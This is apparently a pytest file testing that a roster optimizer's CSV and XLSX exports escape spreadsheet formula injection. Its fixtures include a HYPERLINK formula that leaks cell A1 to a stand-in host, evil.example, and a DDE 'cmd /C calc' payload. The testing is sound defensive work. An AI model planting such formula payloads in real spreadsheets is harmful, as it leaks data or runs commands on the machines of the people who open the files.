"""Issue 22, exports: a cell that a spreadsheet would run as a formula (``= + - @``, tab,
CR at the start) is written as text, in the service's exports and the command line's alike
(one implementation, :func:`optimizer.io.tables.safe_cell`)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from optimizer.domain.roster import Roster
from optimizer.io.roster_export import roster_to_csv_text, roster_to_xlsx_bytes
from optimizer.io.tables import csv_text, safe_cell, unescape_cell
from service.exports import plan_csv, roster_csv, roster_xlsx

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+7 845 200-00-00", "'+7 845 200-00-00"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.5", "-12.5"),
        (-3, -3),
        ("Иван Петров", "Иван Петров"),
        ("", ""),
    ],
)
def test_a_formula_like_cell_gets_an_apostrophe_and_reads_back_as_it_was(
    value: object, written: object
) -> None:
    assert safe_cell(value) == written
    if isinstance(written, str):
        assert unescape_cell(written) == value


def test_the_command_line_csv_writer_escapes_every_cell() -> None:
    rows = list(csv.reader(io.StringIO(csv_text(["id", "title"], [["t1", EVIL]]))))
    assert rows[1] == ["t1", "'" + EVIL]


def test_the_service_plan_and_roster_csv_escape_formulas() -> None:
    plan = {"assignments": [{"ticket_id": EVIL, "engineer_id": "@x", "slack_min": -5}]}
    rows = list(csv.DictReader(io.StringIO(plan_csv(plan))))
    assert rows[0]["ticket_id"] == "'" + EVIL and rows[0]["engineer_id"] == "'@x"
    assert rows[0]["slack_min"] == "-5"
    roster = {"assignments": [{"engineer_id": "+e1", "date": "2026-12-01", "template_id": "d"}]}
    assert list(csv.DictReader(io.StringIO(roster_csv(roster))))[0]["engineer_id"] == "'+e1"


def _cells(data: bytes) -> list[tuple[object, str]]:
    wb = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_the_service_roster_workbook_holds_no_formula() -> None:
    roster = {
        "assignments": [{"engineer_id": EVIL, "date": "2026-12-01", "template_id": "=t"}],
        "shortfall": [{"start": "x", "end": "y", "group": "=1+1", "short_by": 1}],
    }
    cells = _cells(roster_xlsx(roster))
    assert all(kind != "f" for _, kind in cells)
    assert "'" + EVIL in [v for v, _ in cells] and "'=1+1" in [v for v, _ in cells]


def test_the_command_line_roster_exports_hold_no_formula() -> None:
    roster = Roster.model_validate(
        {
            "start": "2026-12-01",
            "end": "2026-12-01",
            "status": "OPTIMAL",
            "solver": {"status": "OPTIMAL"},
            "engineers": {"e1": EVIL},
            "templates": {"d": "=day"},
            "assignments": [
                {"engineer_id": "e1", "date": "2026-12-01", "day": 0, "template_id": "d"}
            ],
        }
    )
    text = roster_to_csv_text(roster)
    assert "'" + EVIL.replace('"', '""') in text and ",'=day," in text
    cells = _cells(roster_to_xlsx_bytes(roster))
    assert all(kind != "f" for _, kind in cells)
    assert "'" + EVIL in [v for v, _ in cells]
